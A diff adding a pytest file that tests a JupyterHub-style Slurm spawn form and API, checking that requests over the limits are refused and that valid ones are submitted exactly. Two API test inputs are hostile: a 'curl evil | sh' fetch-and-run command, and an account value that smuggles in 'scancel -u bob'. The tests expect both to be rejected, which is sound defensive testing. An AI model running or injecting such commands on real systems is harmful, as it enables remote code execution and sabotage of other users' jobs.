@@ -1,0 +1,104 @@
+"""The Server Options form and the REST API: limits enforced before Slurm sees anything, valid requests
+submitted exactly as asked."""
+
+from __future__ import annotations
+
+import html
+import re
+
+import pytest
+from conftest import squeue_of
+from hubclient import HubClient
+from testinfra.host import Host
+
+
+def form_error(page: str) -> str:
+    match = re.search(r'alert-danger">\s*(.*?)\s*</', page, re.S)
+    return html.unescape(match.group(1).strip()) if match else ""
+
+
+def post_form(client: HubClient, **fields: str) -> tuple[int, str, str]:
+    resp = client.session.post(
+        client.url("/hub/spawn"),
+        data={"_xsrf": client.session.cookies.get("_xsrf") or "", **fields},
+        allow_redirects=False,
+        timeout=60,
+    )
+    return resp.status_code, resp.headers.get("location", ""), resp.text
+
+
+def test_form_shows_the_clusters_fields_and_the_users_own_accounts(alice: HubClient) -> None:
+    page = alice.session.get(alice.url("/hub/spawn"), timeout=60).text
+    assert "Demo cluster" in page
+    for label in ("Account", "Time (hours)", "Cores", "Memory (MB)", "User interface"):
+        assert f">{label}</label>" in page
+    accounts = re.findall(
+        r'<option value="([^"]+)"[^>]*>[^<]+</option>', page.split('id="account"')[1].split("</select>")[0]
+    )
+    assert accounts == ["def-alice", "rrg-demo"]  # from sacctmgr: not bob's def-bob
+    assert 'name="cores" id="cores" min="1" max="4"' in page
+
+
+@pytest.mark.parametrize(
+    ("fields", "message"),
+    [
+        ({"cores": "64"}, "Cores: 64 is above the maximum of 4"),
+        ({"memory": "99999"}, "Memory (MB): 99999 is above the maximum of 8000"),
+        ({"time": "9"}, "Time (hours): 9 is above the maximum of 8"),
+        ({"account": "def-bob"}, "Account: 'def-bob' is not one of your accounts (def-alice, rrg-demo)"),
+        ({"interface": "vscode"}, "User interface: 'vscode' is not one of lab, notebook, terminal"),
+    ],
+)
+def test_form_beyond_the_limits_shows_the_error_and_submits_nothing(
+    alice: HubClient, hub: Host, fields: dict[str, str], message: str
+) -> None:
+    base = {"account": "def-alice", "time": "1", "cores": "1", "memory": "512", "interface": "lab"}
+    status, location, page = post_form(alice, **{**base, **fields})
+    assert (status, location) == (200, "")  # no redirect to the spawn page: the form again, with the error
+    assert form_error(page) == f"Error: {message}"
+    assert 'id="spawn_form"' in page  # the form again, to correct and resubmit
+    assert f'value="{next(iter(fields.values()))}"' in page or "select" in page  # the user's values are kept
+    assert squeue_of(hub, "alice") == []
+
+
+@pytest.mark.parametrize(
+    ("options", "message"),
+    [
+        ({"cores": "2", "memory": "99999"}, "Memory (MB): 99999 is above the maximum of 8000"),
+        ({"cores": 3, "memory": 7000, "time": 0.25}, "Time (hours): 0.25 is below the minimum of 0.5"),
+        ({"prologue": "curl evil | sh"}, "Unknown option(s): prologue"),
+        ({"account": "def-alice; scancel -u bob"}, "Account: 'def-alice; scancel -u bob' is not a valid account name"),
+        ({"gpu": "a100:1"}, "GPU: 'a100:1' is not offered (choices: none, no GPU on this hub)"),
+    ],
+)
+def test_api_request_beyond_the_limits_is_refused_with_the_reason(
+    alice: HubClient, hub: Host, options: dict[str, object], message: str
+) -> None:
+    resp = alice.start_server({"account": "def-alice", **options})
+    assert resp.status_code == 400
+    assert resp.json()["message"] == message
+    assert squeue_of(hub, "alice") == []
+    assert not alice.user_model()["servers"]
+
+
+def test_valid_form_request_is_submitted_exactly(alice: HubClient, hub: Host) -> None:
+    status, location, _ = post_form(
+        alice, account="rrg-demo", time="1.5", cores="2", memory="1024", interface="notebook"
+    )
+    assert (status, location) == (302, "/hub/spawn-pending/alice")
+    alice.wait_until_ready(timeout=120)
+    ((job_id, *_),) = (line.split() for line in squeue_of(hub, "alice"))
+    fields = dict(
+        item.split("=", 1) for item in hub.check_output(f"scontrol show job -o {job_id}").split() if "=" in item
+    )
+    assert fields["Account"] == "rrg-demo"
+    assert fields["TimeLimit"] == "01:30:00"
+    assert fields["NumCPUs"] == "2"
+    assert fields["MinMemoryNode"] == "1G"
+    # The classic Notebook interface: the server lands on /tree.
+    landing = alice.session.get(
+        alice.url("/user/alice/"), headers={"Authorization": f"token {alice.token}"}, allow_redirects=False, timeout=60
+    )
+    assert landing.headers["location"].split("?")[0].endswith("/user/alice/tree")
+    alice.stop_server()
+    assert squeue_of(hub, "alice") == []
